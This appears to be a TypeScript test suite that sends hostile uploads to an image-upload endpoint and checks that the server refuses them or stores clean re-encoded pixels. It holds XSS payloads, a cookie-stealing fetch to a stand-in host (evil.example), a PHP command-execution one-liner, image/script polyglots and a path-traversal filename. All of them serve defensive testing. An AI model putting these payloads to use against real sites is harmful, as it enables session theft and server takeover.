import fs from 'node:fs';
import path from 'node:path';
import { crc32, gzipSync } from 'node:zlib';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { FILE_CSP } from '../../http/security.ts';
import { createTestServer, type CallResult, type DataOf, type TestServer } from '../../../test/harness.ts';
import { multipart, type Part } from '../../../test/multipart.ts';

/*
 * Hostile files against /upload/file2server, beyond the plain cases of upload.test.ts: files that
 * pass a first look (right magic bytes, right name, right type) but carry markup or script. A file
 * that does not decode as the picture it claims to be is refused and nothing is stored; a real
 * picture with a payload riding along is accepted only as re-encoded pixels, with the payload gone.
 */

let t: TestServer;
let lin: string;
beforeAll(async () => {
  t = await createTestServer();
  lin = (await t.login('lin')).token;
});
afterAll(async () => {
  await t.close();
});

/** A post picture upload (ascription=post, file_type=pic; avatar for the gifs) with the given attachments. */
const upload = (attachments: Omit<Part, 'name'>[], lang: 'zh' | 'en' = 'zh', ascription = 'post') =>
  t.api.send('uploadFile2server', {
    token: lin,
    lang,
    ...multipart([
      { name: 'ascription', value: ascription },
      { name: 'file_type', value: 'pic' },
      ...attachments.map((a) => ({ name: 'attachment', ...a })),
    ]),
  });

const picture = (format: 'jpeg' | 'png' | 'gif', width = 48, height = 32) =>
  sharp({ create: { width, height, channels: 3, background: { r: 120, g: 140, b: 160 } } })
    .toFormat(format)
    .toBuffer();

/** JPEG COM (comment) segments right after SOI: still a valid JPEG. */
function withJpegComments(jpeg: Buffer, comments: Buffer[]): Buffer {
  const segments = comments.map((c) => {
    if (c.length > 65533) throw new Error('a JPEG segment holds at most 65533 bytes');
    const head = Buffer.from([0xff, 0xfe, 0, 0]);
    head.writeUInt16BE(c.length + 2, 2);
    return Buffer.concat([head, c]);
  });
  return Buffer.concat([jpeg.subarray(0, 2), ...segments, jpeg.subarray(2)]);
}

/** A valid JPEG of exactly `size` bytes, padded with comment segments. */
function jpegOfSize(jpeg: Buffer, size: number): Buffer {
  const comments: Buffer[] = [];
  let remaining = size - jpeg.length;
  while (remaining > 0) {
    const n = remaining > 65537 ? 60000 : remaining - 4;
    comments.push(Buffer.alloc(n, 0x41));
    remaining -= n + 4;
  }
  const out = withJpegComments(jpeg, comments);
  expect(out.length).toBe(size);
  return out;
}

/** A PNG text chunk (tEXt) right after IHDR: still a valid PNG. */
function withPngText(png: Buffer, keyword: string, text: string): Buffer {
  const afterHeader = 8 + 25;
  const typeAndData = Buffer.concat([Buffer.from('tEXt'), Buffer.from(`${keyword}\0${text}`, 'latin1')]);
  const length = Buffer.alloc(4);
  length.writeUInt32BE(typeAndData.length - 4);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(typeAndData));
  return Buffer.concat([png.subarray(0, afterHeader), length, typeAndData, crc, png.subarray(afterHeader)]);
}

function storedFiles(): string[] {
  const root = path.join(t.dataDir, 'uploads');
  if (!fs.existsSync(root)) return [];
  return fs
    .readdirSync(root, { recursive: true, withFileTypes: true })
    .filter((e) => e.isFile())
    .map((e) => path.join(e.parentPath, e.name));
}

const SCRIPT = '<script>alert(document.cookie)</script>';
const JS = '*/=1;fetch("//evil.example/?c="+document.cookie);/*';
const PHP = '<?php system($_GET["c"]); ?>';

/** What must never come back out of the store, whatever the file carried in. */
const PAYLOADS = ['<script', 'alert(', 'document.cookie', 'evil.example', '<?php', 'system(', 'onload'];

async function expectCleanStored(res: CallResult<DataOf<'uploadFile2server'>>, mime: string, what: string): Promise<void> {
  expect(res.body.code, what).toBe(0);
  expect(res.body.data.mime, what).toBe(mime);
  const ext = { 'image/jpeg': 'jpg', 'image/png': 'png', 'image/gif': 'gif' }[mime];
  expect(res.body.data.url, what).toMatch(new RegExp(`^/uploads/\\d{4}/\\d{2}/[0-9a-f]{24}\\.${ext}$`));
  const onDisk = fs.readFileSync(path.join(t.dataDir, res.body.data.url));
  const served = await t.server.app.inject({ method: 'GET', url: res.body.data.url });
  expect(served.statusCode, what).toBe(200);
  expect(served.headers['content-type'], what).toBe(mime);
  expect(served.headers['x-content-type-options'], what).toBe('nosniff');
  expect(served.headers['content-security-policy'], what).toBe(FILE_CSP);
  expect(served.rawPayload.equals(onDisk), what).toBe(true);
  const text = onDisk.toString('latin1');
  for (const payload of PAYLOADS) expect(text.includes(payload), `${what}: stored file holds ${payload}`).toBe(false);
  const meta = await sharp(onDisk).metadata();
  expect(meta.exif, what).toBeUndefined();
  expect(meta.comments ?? [], what).toEqual([]);
}

describe('upload attack corpus: refused, nothing stored', () => {
  it('refuses disguised markup, SVG and broken pictures with the spec messages, in both languages', async () => {
    const before = await t.snapshot();
    const files = storedFiles().length;
    const png = await picture('png');
    const jpeg = await picture('jpeg');
    const html = `<!doctype html><html><body><h1>hi</h1>${SCRIPT}</body></html>`;
    const svg = `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(1)</script><rect width="10" height="10"/></svg>`;

    const cases: [string, Omit<Part, 'name'>[], number, string, string][] = [
      [
        // Type spoofing: PNG magic bytes (and a real PNG header chunk), named .jpg, sent as image/jpeg, HTML inside.
        'png header + html as x.jpg image/jpeg',
        [{ value: Buffer.concat([png.subarray(0, 33), Buffer.from(html)]), filename: 'x.jpg', type: 'image/jpeg' }],
        40001,
        '上传文件只能是图片格式!',
        'Only image files can be uploaded!',
      ],
      [
        'GIF89a + script (GIF/HTML polyglot header)',
        [{ value: `GIF89a${SCRIPT}`, filename: 'x.gif', type: 'image/gif' }],
        40001,
        '上传文件只能是图片格式!',
        'Only image files can be uploaded!',
      ],
      [
        'SVG with script as x.png image/png',
        [{ value: svg, filename: 'x.png', type: 'image/png' }],
        40001,
        '上传文件只能是图片格式!',
        'Only image files can be uploaded!',
      ],
      [
        'SVG with script as x.svg image/svg+xml',
        [{ value: svg, filename: 'x.svg', type: 'image/svg+xml' }],
        40001,
        '上传文件只能是图片格式!',
        'Only image files can be uploaded!',
      ],
      [
        'gzipped SVG (svgz)',
        [{ value: gzipSync(svg), filename: 'x.svgz', type: 'image/svg+xml' }],
        40001,
        '上传文件只能是图片格式!',
        'Only image files can be uploaded!',
      ],
      [
        'HTML named x.png',
        [{ value: html, filename: 'x.png', type: 'image/png' }],
        40001,
        '上传文件只能是图片格式!',
        'Only image files can be uploaded!',
      ],
      [
        'JPEG header cut off, then script',
        [{ value: Buffer.concat([jpeg.subarray(0, 160), Buffer.from(SCRIPT)]), filename: 'cut.jpg', type: 'image/jpeg' }],
        40001,
        '上传文件只能是图片格式!',
        'Only image files can be uploaded!',
      ],
      [
        'oversize: a valid JPEG of 1 MB + 1 byte',
        [{ value: jpegOfSize(jpeg, 1024 * 1024 + 1), filename: 'big.jpg', type: 'image/jpeg' }],
        40013,
        '上传文件大小不能超过 1MB!',
        'The file must not be larger than 1MB!',
      ],
      [
        'zero bytes as x.gif image/gif',
        [{ value: Buffer.alloc(0), filename: 'x.gif', type: 'image/gif' }],
        40001,
        '上传的文件是空的',
        'The uploaded file is empty',
      ],
      [
        'four files: three good pictures and an HTML file',
        [
          { value: jpeg, filename: '1.jpg', type: 'image/jpeg' },
          { value: png, filename: '2.png', type: 'image/png' },
          { value: jpeg, filename: '3.jpg', type: 'image/jpeg' },
          { value: html, filename: '4.png', type: 'image/png' },
        ],
        40001,
        '最多允许上传3个文件',
        'At most 3 files can be uploaded',
      ],
    ];
    for (const [what, attachments, code, zh, en] of cases) {
      expect((await upload(attachments)).body, what).toEqual({ code, msg: zh, data: null });
      expect((await upload(attachments, 'en')).body, what).toEqual({ code, msg: en, data: null });
    }
    expect(await t.snapshot()).toEqual(before);
    expect(storedFiles()).toHaveLength(files);
  });
});

describe('upload attack corpus: real pictures carrying a payload are stored as clean pixels only', () => {
  it('a JPEG/JS polyglot: payload in a comment segment and after the end of the image', async () => {
    const jpeg = await picture('jpeg');
    const polyglot = Buffer.concat([withJpegComments(jpeg, [Buffer.from(`${JS}${SCRIPT}`)]), Buffer.from(`${SCRIPT}${JS}`)]);
    expect((await sharp(polyglot).metadata()).format).toBe('jpeg');
    const res = await upload([{ value: polyglot, filename: 'poly.jpg', type: 'image/jpeg' }]);
    await expectCleanStored(res, 'image/jpeg', 'jpeg polyglot');
    expect(res.body.data).toMatchObject({ width: 48, height: 32 });
  });

  it('a GIF avatar (only avatars take gif) with a PHP and JS payload after its trailer', async () => {
    const gif = Buffer.concat([await picture('gif'), Buffer.from(`${PHP}\n${SCRIPT}`)]);
    const res = await upload([{ value: gif, filename: 'shell.gif.php', type: 'application/x-php' }], 'zh', 'avatar');
    await expectCleanStored(res, 'image/gif', 'gif + php');
  });

  it('EXIF and a JPEG comment with script in them; a PNG text chunk with script', async () => {
    const exif = await sharp(await picture('jpeg'))
      .withExif({ IFD0: { ImageDescription: SCRIPT, Artist: `${PHP}`, Copyright: JS } })
      .jpeg()
      .toBuffer();
    const commented = withJpegComments(exif, [Buffer.from(`<svg onload=alert(1)>${SCRIPT}`)]);
    const meta = await sharp(commented).metadata();
    expect(meta.exif?.toString('latin1')).toContain('<script>');
    expect(commented.includes('<svg onload=')).toBe(true);
    await expectCleanStored(await upload([{ value: commented, filename: 'exif.jpg', type: 'image/jpeg' }]), 'image/jpeg', 'exif');

    const png = withPngText(await picture('png'), 'Comment', `${SCRIPT}${JS}`);
    expect((await sharp(png).metadata()).comments?.[0]?.text).toContain('<script>');
    await expectCleanStored(await upload([{ value: png, filename: 'text.png', type: 'image/png' }]), 'image/png', 'png text');
  });

  it('exactly 1 MB is still taken (the limit is inclusive), and stored without its padding', async () => {
    const res = await upload([{ value: jpegOfSize(await picture('jpeg'), 1024 * 1024), filename: 'limit.jpg', type: 'image/jpeg' }]);
    await expectCleanStored(res, 'image/jpeg', '1 MB');
    expect(res.body.data.size).toBeLessThan(10_000);
  });

  it('ignores the name and type the client gives: traversal names and HTML types end as random names of the real type', async () => {
    const before = storedFiles();
    const res = await upload([{ value: await picture('png'), filename: '../../../index.html', type: 'text/html' }]);
    await expectCleanStored(res, 'image/png', 'traversal');
    const after = storedFiles();
    expect(after).toHaveLength(before.length + 1);
    const root = path.join(t.dataDir, 'uploads');
    for (const file of after) expect(file.startsWith(root + path.sep)).toBe(true);
    expect(after.some((f) => f.endsWith('.html'))).toBe(false);
    expect(fs.existsSync(path.join(t.dataDir, 'index.html'))).toBe(false);
  });
});
